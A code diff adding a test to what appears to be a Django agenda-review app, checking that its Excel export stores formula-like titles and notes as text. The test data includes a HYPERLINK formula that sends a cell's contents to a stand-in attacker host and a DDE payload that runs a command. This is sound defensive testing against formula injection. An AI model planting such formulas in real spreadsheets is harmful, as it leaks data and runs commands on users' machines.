@@ -226,3 +226,15 @@ def test_programmes_take_endorsed_requests_and_show_on_the_request(people, clien
         client_for(people.planner_b).get(reverse("reviews:programme-detail", args=[programme.pk])).content.decode()
     )
     assert "ไทยเข้มแข็ง" in listing and request.reference not in listing
+
+
+def test_the_xlsx_pack_writes_formula_like_titles_and_notes_as_text(people, client_for, open_calendar, agenda):
+    # issue 13 item 1: the committee's pack is opened in Excel; user text must stay text
+    titles = ['=HYPERLINK("http://evil.example/?leak="&B2,"ดู")', "=cmd|' /C calc'!A0"]
+    for title in titles:
+        item = agenda_item_add(user=people.central, agenda_id=agenda.pk, request_id=endorsed(people, title=title).pk)
+    agenda_item_decide(user=people.central, item_id=item.pk, decision="approved", note="=1+1")
+    response = client_for(people.central).get(reverse("reviews:agenda-xlsx", args=[agenda.pk]))
+    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content)))["รายการ"]
+    written = {c.value: c.data_type for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
+    assert {t: written.get(t) for t in [*titles, "=1+1"]} == {t: "s" for t in [*titles, "=1+1"]}
